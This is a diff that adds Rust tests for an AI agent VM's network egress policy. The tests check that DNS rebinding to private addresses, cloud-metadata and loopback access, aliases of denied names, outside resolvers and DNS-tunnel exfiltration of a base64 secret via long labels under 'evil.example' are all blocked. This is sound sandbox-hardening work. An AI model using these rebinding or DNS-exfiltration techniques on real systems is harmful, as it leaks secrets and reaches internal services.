@@ -1,0 +1,193 @@
+//! Names, and those who change what they lead to.
+
+use agentos::{AgentOs, EgressPolicy, Rule};
+use hickory_proto::op::ResponseCode;
+
+use crate::lab::guest::{attempt, check_refused, is_refusal, sh, with_probe};
+use crate::lab::names::{Entry, Names};
+use crate::lab::web::{Site, Web};
+use crate::lab::{Lab, NAME_SERVER};
+use crate::lab::capture::{TCP, UDP};
+use crate::lab::echo;
+use crate::support::eventually;
+use crate::support::world::World;
+
+struct Place {
+    lab: Lab,
+    world: World,
+    names: Names,
+    site: Web,
+    internal: Web,
+}
+
+impl Place {
+    /// A public-looking web server and a private one, both on port 80.
+    async fn new() -> Option<Self> {
+        let lab = Lab::new()?;
+        let names = lab.names();
+        lab.host("web", &["198.51.100.80"]);
+        lab.host("internal", &["10.9.0.5"]);
+        let site = Web::serve(lab.tcp("web", "198.51.100.80:80"), Site::Text("public"));
+        let internal = Web::serve(lab.tcp("internal", "10.9.0.5:80"), Site::Text("internal"));
+        names.set("web.example", Entry::addresses(&["198.51.100.80"]));
+        let world = lab.world().await;
+        Some(Self { lab, world, names, site, internal })
+    }
+
+    async fn vm(&self, policy: EgressPolicy) -> AgentOs {
+        self.world.vm_with(with_probe(self.world.options().network(policy))).await
+    }
+}
+
+const FETCH: &str = "curl -sS -m 20 http://shifty.example/";
+
+/// Asks as often as it takes for the former answer to be forgotten, and returns the first outcome that is another.
+async fn fetch_until_not(vm: &AgentOs, former: &str) -> String {
+    let outcome = std::sync::Mutex::new(String::new());
+    eventually("the name to change", || async {
+        let now = sh(vm, FETCH).await;
+        let changed = now != former;
+        *outcome.lock().unwrap() = now;
+        changed
+    })
+    .await;
+    outcome.into_inner().unwrap()
+}
+
+#[tokio::test]
+async fn a_name_that_turns_to_a_private_address_leads_nowhere() {
+    let Some(place) = Place::new().await else { return };
+    place.names.set("shifty.example", Entry::turns(&["198.51.100.80", "10.9.0.5"]));
+    assert_eq!(place.lab.outside(FETCH).await, "public");
+    assert_eq!(place.lab.outside(FETCH).await, "internal", "the control");
+    for policy in [
+        EgressPolicy::public(),
+        EgressPolicy::none().allow(Rule::name("shifty.example")),
+        EgressPolicy::public().allow(Rule::name("*.example")),
+    ] {
+        place.names.set("shifty.example", Entry::turns(&["198.51.100.80", "10.9.0.5"]));
+        let vm = place.vm(policy).await;
+        let capture = place.lab.capture();
+        assert_eq!(sh(&vm, FETCH).await, "public");
+        let turned = fetch_until_not(&vm, "public").await;
+        assert!(turned.starts_with("curl: (7)") || turned.starts_with("curl: (6)"), "{turned}");
+        let seen = capture.settle();
+        seen.nothing_to("10.9.0.5");
+        seen.something_to("198.51.100.80");
+    }
+    assert_eq!(place.internal.asked().len(), 1, "the control alone");
+}
+
+#[tokio::test]
+async fn a_name_leads_to_a_private_address_only_where_the_rule_says_so() {
+    let Some(place) = Place::new().await else { return };
+    place.names.set("shifty.example", Entry::addresses(&["10.9.0.5"]));
+    let permitted = Rule::name("shifty.example").to_private_addresses();
+    let vm = place.vm(EgressPolicy::none().allow(permitted)).await;
+    assert_eq!(sh(&vm, FETCH).await, "internal");
+    // Not even so to metadata, to the host's own and to its loopback.
+    place.lab.host("metadata", &["169.254.169.254"]);
+    let metadata = Web::serve(place.lab.tcp("metadata", "169.254.169.254:80"), Site::Text("metadata"));
+    let own = Web::serve(place.lab.tcp("machine", "192.0.2.10:80"), Site::Text("own"));
+    for address in ["169.254.169.254", "192.0.2.10", "127.0.0.1"] {
+        place.names.set("shifty.example", Entry::addresses(&[address]).ttl_s(1));
+        let permitted = Rule::name("shifty.example").to_private_addresses();
+        let vm = place.vm(EgressPolicy::none().allow(permitted)).await;
+        let said = fetch_until_not(&vm, "internal").await;
+        assert!(said.starts_with("curl: (7)") || said.starts_with("curl: (6)"), "{address}: {said}");
+    }
+    assert_eq!((metadata.asked().len(), own.asked().len()), (0, 0));
+}
+
+#[tokio::test]
+async fn an_alias_of_a_denied_name_is_denied() {
+    let Some(place) = Place::new().await else { return };
+    place.names.set("denied.example", Entry::addresses(&["198.51.100.80"]));
+    place.names.set("friendly.example", Entry::alias("denied.example"));
+    let open = place.vm(EgressPolicy::public()).await;
+    assert_eq!(attempt(&open, "resolve friendly.example").await, "198.51.100.80", "the control");
+    let vm = place.vm(EgressPolicy::public().deny(Rule::name("denied.example"))).await;
+    assert_eq!(attempt(&vm, "resolve denied.example").await, "unresolved");
+    assert_eq!(attempt(&vm, "resolve friendly.example").await, "unresolved");
+    assert_eq!(attempt(&vm, "resolve web.example").await, "198.51.100.80");
+    let asked = place.site.asked().len();
+    let said = sh(&vm, "curl -sS -m 20 http://friendly.example/").await;
+    assert!(said.starts_with("curl: (6)"), "{said}");
+    assert_eq!(place.site.asked().len(), asked);
+}
+
+#[tokio::test]
+async fn only_the_vm_s_own_resolver_answers() {
+    let Some(place) = Place::new().await else { return };
+    let elsewhere = echo::echo_datagrams(place.lab.udp("web", "198.51.100.80:53"));
+    let over_tls = echo::echo(place.lab.tcp("web", "198.51.100.80:853"));
+    let ways = [
+        format!("say {NAME_SERVER}:53 hello"),
+        "say 198.51.100.80:853 hello".to_owned(),
+        "datagram 198.51.100.80:53 hello".to_owned(),
+        "datagram 198.51.100.80:853 hello".to_owned(),
+    ];
+    assert_eq!(place.lab.attempt_outside(&ways[2]).await, "hello", "the control");
+    assert_eq!(place.lab.attempt_outside(&ways[1]).await, "hello", "the control");
+    let vm = place.vm(EgressPolicy::public()).await;
+    let capture = place.lab.capture();
+    for way in &ways {
+        check_refused(way, &attempt(&vm, way).await);
+    }
+    let seen = capture.settle();
+    seen.nothing_holding(b"hello");
+    seen.nothing_to("198.51.100.80");
+    assert!(seen.to_port(TCP, "198.51.100.53:53").is_empty() && seen.to_port(UDP, "198.51.100.53:53").is_empty());
+    assert_eq!((elsewhere.count(), over_tls.count()), (1, 1), "the controls alone");
+    // Who names a network means it.
+    let vm = place.vm(EgressPolicy::public().allow(Rule::network("198.51.100.80"))).await;
+    assert_eq!(attempt(&vm, &ways[2]).await, "hello");
+}
+
+#[tokio::test]
+async fn what_is_told_to_a_name_server_by_long_labels_never_leaves() {
+    let Some(place) = Place::new().await else { return };
+    let secret = "c2VjcmV0LXRoYXQtbXVzdC1zdGF5LWluc2lkZQ";
+    let name = format!("{secret}.{}.evil.example", "x".repeat(60));
+    let open = place.vm(EgressPolicy::public()).await;
+    let capture = place.lab.capture();
+    attempt(&open, &format!("resolve {name}")).await;
+    assert!(!capture.settle().holding(secret.as_bytes()).is_empty(), "the control: public lets names out");
+    let asked = place.names.asked().len();
+    let vm = place.vm(EgressPolicy::none().allow(Rule::name("web.example"))).await;
+    let capture = place.lab.capture();
+    for name in [name.clone(), name.to_uppercase(), format!("{secret}.web.example.evil.example"), format!("{secret}.web.example")] {
+        assert_eq!(attempt(&vm, &format!("resolve {name}")).await, "unresolved", "{name}");
+    }
+    assert_eq!(attempt(&vm, "resolve web.example").await, "198.51.100.80");
+    let seen = capture.settle();
+    seen.nothing_holding(secret.as_bytes());
+    seen.nothing_holding(secret.to_uppercase().as_bytes());
+    let asked = place.names.asked().split_off(asked);
+    assert!(asked.iter().all(|name| name == "web.example"), "{asked:?}");
+}
+
+#[tokio::test]
+async fn a_name_server_that_fails_is_a_failure_at_once_and_harms_no_other_name() {
+    let Some(place) = Place::new().await else { return };
+    place.names.set("broken.example", Entry::failure(ResponseCode::ServFail));
+    let vm = place.vm(EgressPolicy::public()).await;
+    let said = sh(&vm, "python3 -c 'import socket; socket.getaddrinfo(\"broken.example\", 80)'").await;
+    assert!(said.contains("Temporary failure in name resolution"), "{said}");
+    let said = sh(&vm, "python3 -c 'import socket; socket.getaddrinfo(\"none.example\", 80)'").await;
+    assert!(said.contains("Name or service not known"), "{said}");
+    assert_eq!(attempt(&vm, "resolve web.example").await, "198.51.100.80");
+}
+
+#[tokio::test]
+async fn an_address_that_no_answer_gave_has_no_name() {
+    let Some(place) = Place::new().await else { return };
+    let vm = place.vm(EgressPolicy::none().allow(Rule::name("web.example"))).await;
+    let capture = place.lab.capture();
+    let direct = "say 198.51.100.80:80 'GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n'";
+    let said = attempt(&vm, direct).await;
+    assert!(is_refusal(&said), "{said}");
+    capture.settle().nothing_to("198.51.100.80");
+    assert_eq!(sh(&vm, "curl -sS http://web.example/").await, "public");
+    assert!(attempt(&vm, direct).await.starts_with("HTTP/1.1 200"), "after the name was asked for");
+}
